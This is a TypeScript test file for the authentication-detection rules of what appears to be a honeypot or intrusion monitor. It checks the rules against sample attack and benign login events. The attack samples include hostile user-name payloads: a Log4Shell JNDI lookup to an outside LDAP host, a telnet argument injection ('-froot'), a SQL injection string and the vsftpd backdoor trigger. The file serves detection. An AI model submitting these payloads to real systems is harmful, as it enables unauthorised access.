import { deepEqual, equal } from 'node:assert/strict'
import { test } from 'node:test'
import type { Event, EventDetail } from '../../src/event/event.js'
import { AUTHENTICATION, isAnonymous } from '../../src/rules/authentication.js'
import { judged, testTwins, visit } from './twins.js'

type Shown = readonly [Event['kind'], EventDetail, Event['service']?]

const login = ([kind, detail, service = 'ssh']: Shown) => visit({ kind, service }, detail)

testTwins(AUTHENTICATION.rules, login, [
  {
    id: 'auth-name-payload',
    attack: [
      ['auth.failure', { userName: '${jndi:ldap://198.51.100.9/a}' }],
      ['auth.attempt', { userName: '-froot' }, 'telnet'],
      ['auth.failure', { userName: "a' or '1'='1" }],
    ],
    ordinary: [
      ['auth.failure', { userName: 'froot' }],
      ['auth.failure', { userName: "o'brien" }],
      ['auth.failure', { userName: 'ann.example@example.org' }],
    ],
  },
  {
    id: 'auth-name-foreign',
    attack: [
      ['auth.failure', { userName: 'GET / HTTP/1.1' }],
      ['auth.attempt', { userName: 'Cookie: mstshash=Test' }, 'telnet'],
    ],
    ordinary: [['auth.failure', { userName: 'getter' }]],
  },
  {
    id: 'auth-name-backdoor',
    attack: [['auth.failure', { userName: 'x:)' }, 'ftp']],
    ordinary: [
      ['auth.failure', { userName: 'x:)' }],
      ['auth.failure', { userName: 'smiley' }, 'ftp'],
    ],
  },
  {
    id: 'auth-repeated-failure',
    attack: [['auth.failure', { userName: 'ann', authMethod: 'password', repeated: 5 }]],
    ordinary: [['auth.failure', { userName: 'ann', authMethod: 'password', repeated: 4 }]],
  },
  {
    id: 'auth-failed-guessed-account',
    attack: [
      ['auth.failure', { userName: 'root', authMethod: 'password' }],
      ['auth.failure', { userName: ' Admin ' }],
    ],
    ordinary: [
      ['auth.failure', { userName: 'ann', authMethod: 'password' }],
      ['auth.failure', { userName: 'root', authMethod: 'publickey' }],
      ['auth.success', { userName: 'root', authMethod: 'password' }],
    ],
  },
  {
    id: 'auth-failed-unknown-user',
    attack: [['auth.failure', { userName: 'fluffy', authMethod: 'password', userUnknown: true }]],
    ordinary: [
      ['auth.failure', { userName: 'fluffy', authMethod: 'password', userUnknown: false }],
    ],
  },
  {
    id: 'auth-failed',
    attack: [['auth.failure', { userName: 'ann', authMethod: 'password' }]],
    ordinary: [['auth.success', { userName: 'ann', authMethod: 'password' }]],
  },
  {
    id: 'auth-failed-key',
    attack: [
      ['auth.failure', { userName: 'ann', authMethod: 'publickey' }],
      ['auth.failure', { userName: 'ann', authMethod: 'none' }],
    ],
    ordinary: [['auth.failure', { userName: 'ann', authMethod: 'keyboard-interactive' }]],
  },
  {
    id: 'auth-attempt-guessed-account',
    attack: [['auth.attempt', { userName: 'postgres' }]],
    ordinary: [['auth.attempt', { userName: 'ann' }]],
  },
  {
    id: 'auth-attempt',
    attack: [['auth.attempt', {}]],
    ordinary: [['auth.success', {}]],
  },
  {
    id: 'auth-guessed-account-entered',
    attack: [['auth.success', { userName: 'root', authMethod: 'password' }]],
    ordinary: [
      ['auth.success', { userName: 'root', authMethod: 'publickey' }],
      ['auth.success', { userName: 'ann', authMethod: 'password' }],
    ],
  },
  {
    id: 'auth-anonymous-entered',
    attack: [['auth.success', { userName: 'anonymous' }, 'ftp']],
    ordinary: [
      ['auth.success', { userName: 'anonymous' }],
      ['auth.success', { userName: 'ann' }, 'ftp'],
    ],
  },
])

test('a mistyped password alone is no alarm, a guessed account is', () => {
  deepEqual(judged(login(['auth.failure', { userName: 'ann', authMethod: 'password' }])), [
    25,
    'auth-failed',
  ])
  deepEqual(judged(login(['auth.failure', { userName: 'root', authMethod: 'password' }])), [
    50,
    'auth-failed-guessed-account',
  ])
})

test('the guest of FTP goes by two names in any case', () => {
  equal(isAnonymous('Anonymous'), true)
  equal(isAnonymous(' ftp '), true)
  equal(isAnonymous('ftpuser'), false)
  equal(isAnonymous(undefined), false)
})
